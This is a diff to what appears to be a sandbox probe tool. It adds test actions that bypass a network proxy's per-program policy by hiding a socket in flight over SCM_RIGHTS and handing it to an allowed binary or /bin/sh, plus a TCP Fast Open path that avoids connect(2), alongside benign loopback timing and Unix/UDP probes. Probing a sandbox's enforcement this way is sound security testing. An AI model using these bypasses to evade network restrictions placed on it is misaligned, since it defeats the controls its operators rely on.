@@ -568,6 +568,195 @@ int proxy_handoff(const char* host, const char* port, char** argv) {
   return rc;
 }
 
+// One fd through a socket pair (SCM_RIGHTS); -1 on failure.
+int send_fd_to(int socket_fd, int fd) {
+  char tag = 'F';
+  iovec iov{&tag, 1};
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+  msghdr msg{};
+  msg.msg_iov = &iov;
+  msg.msg_iovlen = 1;
+  msg.msg_control = control;
+  msg.msg_controllen = sizeof control;
+  cmsghdr* cmsg = CMSG_FIRSTHDR(&msg);
+  cmsg->cmsg_level = SOL_SOCKET;
+  cmsg->cmsg_type = SCM_RIGHTS;
+  cmsg->cmsg_len = CMSG_LEN(sizeof(int));
+  std::memcpy(CMSG_DATA(cmsg), &fd, sizeof fd);
+  return ::sendmsg(socket_fd, &msg, 0) == 1 ? 0 : -1;
+}
+
+int receive_fd_from(int socket_fd) {
+  char tag = 0;
+  iovec iov{&tag, 1};
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+  msghdr msg{};
+  msg.msg_iov = &iov;
+  msg.msg_iovlen = 1;
+  msg.msg_control = control;
+  msg.msg_controllen = sizeof control;
+  if (::recvmsg(socket_fd, &msg, 0) != 1) return -1;
+  cmsghdr* cmsg = CMSG_FIRSTHDR(&msg);
+  if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS) return -1;
+  int fd;
+  std::memcpy(&fd, CMSG_DATA(cmsg), sizeof fd);
+  return fd;
+}
+
+// The binaries rule's bypass by hiding the socket from the proxy's look at
+// its holders: this program connects and at once sends its only copy to
+// itself (in flight in a socket pair, in no process's fd table) while the
+// proxy looks. Then a program the policy names (argv) is started holding
+// the socket, and this one takes the socket back and talks: at the request
+// the proxy finds only argv, a process new since it first looked.
+int proxy_hide(const char* host, const char* port, char** argv) {
+  int pair[2];
+  if (::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) != 0) return result(-1);
+  int fd = connect_proxy(false);
+  if (fd < 0 || send_fd_to(pair[0], fd) != 0) return result(-1);
+  ::close(fd);
+  ::usleep(100000);  // the proxy looks at the socket's holders: none
+  pid_t child = ::fork();
+  if (child == 0) {
+    // It holds the socket (inherited through exec), and puts it back in
+    // flight for its parent.
+    int held = receive_fd_from(pair[1]);
+    if (held < 0 || send_fd_to(pair[0], held) != 0) ::_exit(1);
+    ::execv(argv[0], argv);
+    ::_exit(127);
+  }
+  ::usleep(200000);  // argv runs, holding the socket
+  int back = receive_fd_from(pair[1]);
+  if (back < 0) return result(-1);
+  int rc = connect_request(back, host, port);
+  ::kill(child, SIGKILL);
+  ::waitpid(child, nullptr, 0);
+  return rc;
+}
+
+// The same bypass with the socket handed on for good: a process connects,
+// hides the socket in flight, and later a new process takes it, runs
+// /bin/sh (which the policy names) and makes the request, after the one
+// that connected has exited. The shell prints the proxy's status line.
+int proxy_pass(const char* host, const char* port) {
+  int done[2];
+  if (::pipe(done) != 0) return result(-1);
+  pid_t connector = ::fork();
+  if (connector == 0) {
+    ::close(done[0]);
+    int pair[2];
+    if (::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) != 0) ::_exit(1);
+    int fd = connect_proxy(false);
+    if (fd < 0 || send_fd_to(pair[0], fd) != 0) ::_exit(1);
+    ::close(fd);
+    ::usleep(300000);  // the proxy looks at the socket's holders: none
+    if (::fork() == 0) {
+      int back = receive_fd_from(pair[1]);
+      if (back < 0 || ::dup2(back, 3) != 3) ::_exit(1);
+      std::string script = std::string("sleep 0.3; printf 'CONNECT ") + host + ":" + port +
+                           " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n' >&3; " +
+                           "head -n 1 <&3 | sed 's/^/proxy: /'";
+      ::execl("/bin/sh", "sh", "-c", script.c_str(), static_cast<char*>(nullptr));
+      ::_exit(127);
+    }
+    ::_exit(0);  // before the request
+  }
+  ::close(done[1]);
+  ::waitpid(connector, nullptr, 0);
+  char c;
+  while (::read(done[0], &c, 1) > 0) {
+  }  // EOF: the shell has ended
+  std::fflush(stdout);
+  return 0;
+}
+
+// CONNECT host:port through the proxy on a socket connected without
+// connect(2): TCP Fast Open, the request in the SYN (sendto MSG_FASTOPEN).
+int proxy_fastopen(const char* host, const char* port) {
+  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_port = htons(3128);
+  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  std::string request =
+      std::string("CONNECT ") + host + ":" + port + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n";
+  if (fd < 0 || ::sendto(fd, request.data(), request.size(), MSG_FASTOPEN,
+                         reinterpret_cast<sockaddr*>(&addr), sizeof addr) < 0)
+    return result(-1);
+  std::string head;
+  char c;
+  while (head.find("\r\n\r\n") == std::string::npos && ::read(fd, &c, 1) == 1) head += c;
+  std::string status = head.substr(0, head.find("\r\n"));
+  std::printf("proxy: %s\n", status.c_str());
+  if (status.find(" 200 ") != std::string::npos) return 0;
+  std::string body;
+  char buf[512];
+  ssize_t n;
+  while ((n = ::read(fd, buf, sizeof buf)) > 0) body.append(buf, static_cast<size_t>(n));
+  if (!body.empty()) std::printf("body: %s", body.c_str());
+  return 1;
+}
+
+// COUNT connect()s to a listener on the sandbox's own loopback; prints how
+// long each took on average (the cost of the runtime's look at connect).
+int loopback_connects(int count) {
+  int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  socklen_t size = sizeof addr;
+  if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
+      ::listen(listener, 128) != 0 ||
+      ::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &size) != 0)
+    return result(-1);
+  timespec start{}, end{};
+  ::clock_gettime(CLOCK_MONOTONIC, &start);
+  double in_connect = 0;
+  for (int i = 0; i < count; ++i) {
+    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    timespec a{}, b{};
+    ::clock_gettime(CLOCK_MONOTONIC, &a);
+    int rc = ::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
+    ::clock_gettime(CLOCK_MONOTONIC, &b);
+    if (fd < 0 || rc != 0) return result(-1);
+    in_connect += (b.tv_sec - a.tv_sec) * 1e6 + (b.tv_nsec - a.tv_nsec) / 1e3;
+    int accepted = ::accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
+    if (accepted < 0) return result(-1);
+    char byte = 'x';
+    if (::write(fd, &byte, 1) != 1 || ::read(accepted, &byte, 1) != 1) return result(-1);
+    ::close(accepted);
+    ::close(fd);
+  }
+  ::clock_gettime(CLOCK_MONOTONIC, &end);
+  double total = (end.tv_sec - start.tv_sec) * 1e6 + (end.tv_nsec - start.tv_nsec) / 1e3;
+  char line[128];
+  std::snprintf(line, sizeof line, "%d connects, %.1f us in connect() each, %.1f us a round",
+                count, in_connect / count, total / count);
+  return result(0, line);
+}
+
+// connect() of sockets other than TCP: a Unix socket (abstract name) and
+// a UDP socket to the sandbox's loopback.
+int unix_connect() {
+  int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_un addr{};
+  addr.sun_family = AF_UNIX;
+  std::memcpy(addr.sun_path, "\0osh-probe-unix", 15);
+  socklen_t size = offsetof(sockaddr_un, sun_path) + 15;
+  if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&addr), size) != 0 ||
+      ::listen(listener, 1) != 0)
+    return result(-1);
+  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (fd < 0 || ::connect(fd, reinterpret_cast<sockaddr*>(&addr), size) != 0) return result(-1);
+  int udp = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  sockaddr_in to{};
+  to.sin_family = AF_INET;
+  to.sin_port = htons(9);
+  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  if (udp < 0 || ::connect(udp, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) return result(-1);
+  return result(0, "unix and udp");
+}
+
 // Code from another file in this process (as a preloaded library would be):
 // FILE mapped executable, then CONNECT through the proxy.
 int proxy_connect_mapped(const char* file, const char* host, const char* port) {
@@ -844,6 +1033,11 @@ int main(int argc, char** argv) {
   }
   if (action == "proxy-flood") return proxy_flood(std::atoi(arg(2)), std::atoi(arg(3)));
   if (action == "proxy-handoff" && argc > 4) return proxy_handoff(arg(2), arg(3), argv + 4);
+  if (action == "proxy-hide" && argc > 4) return proxy_hide(arg(2), arg(3), argv + 4);
+  if (action == "unix-connect") return unix_connect();
+  if (action == "proxy-fastopen") return proxy_fastopen(arg(2), arg(3));
+  if (action == "proxy-pass") return proxy_pass(arg(2), arg(3));
+  if (action == "loopback-connects") return loopback_connects(std::atoi(arg(2)));
   if (action == "proxy-connect-mapped") return proxy_connect_mapped(arg(2), arg(3), arg(4));
   if (action == "hold-connections")
     return hold_connections(std::atoi(arg(2)), std::atoi(arg(3)), std::atoi(arg(4)));
